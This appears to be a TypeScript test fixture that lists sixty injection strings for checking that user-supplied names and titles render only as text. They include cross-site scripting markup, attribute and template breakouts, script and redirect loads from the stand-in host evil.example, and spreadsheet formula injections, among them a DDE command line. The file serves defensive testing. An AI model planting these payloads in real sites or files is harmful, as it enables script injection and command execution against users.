/*
 * What somebody writes where a name or a title is asked for: markup, scripts, links, headers, formulas, and signs that turn or
 * end a text. Each calls `ran` or names `evil.example` where it is taken for more than a text.
 */

const markup = [
  '<script>ran()</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</script><script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<img src="x" onerror="ran()">',
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<math><mi//xlink:href="data:x,ran()">',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>ran()</script>">',
  '<iframe src=javascript:ran()>',
  '<object data=javascript:ran()>',
  '<embed src=//evil.example/x.swf>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<form action=//evil.example><input>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<input autofocus onfocus=ran()>',
  '<marquee onstart=ran()>x</marquee>',
  '<style>@import "//evil.example";</style>',
  '<!--<img src="--><img src=x onerror=ran()>',
  '<![CDATA[<script>ran()</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '<a href="javascript:ran()">x</a>',
  '<a href="http://evil.example">x</a>',
] as const;

const brokenOut = [
  '"><img src=x onerror=ran()>',
  "'><img src=x onerror=ran()>",
  '" onmouseover="ran()',
  "' onfocus='ran()' autofocus='",
  '`${ran()}`',
  '${ran()}',
  '{{constructor.constructor("ran()")()}}',
  '";ran();//',
  "';ran();//",
  '\\";ran();//',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  'javascript:ran()',
  '{shop} {order} <b>ran()</b>',
  '\u202eran()<script>',
  'ran()\u2028<script>',
] as const;

const links = ['http://evil.example', 'www.evil.example', 'evil.example/gift', 'a@evil.example'] as const;

/** What a spreadsheet would work out; also after a space and as a sign of another width. */
export const formulas = [
  '=HYPERLINK("http://evil.example")',
  '=cmd|"/c ran()"!A1',
  '+ran()',
  '-ran()',
  '@SUM(ran())',
  ' =ran()',
  '%0A=ran()',
  '"=ran()',
] as const;

/** Sixty texts that must be nothing but text wherever they are shown. */
export const payloads: readonly string[] = [...markup, ...brokenOut, ...links, ...formulas];
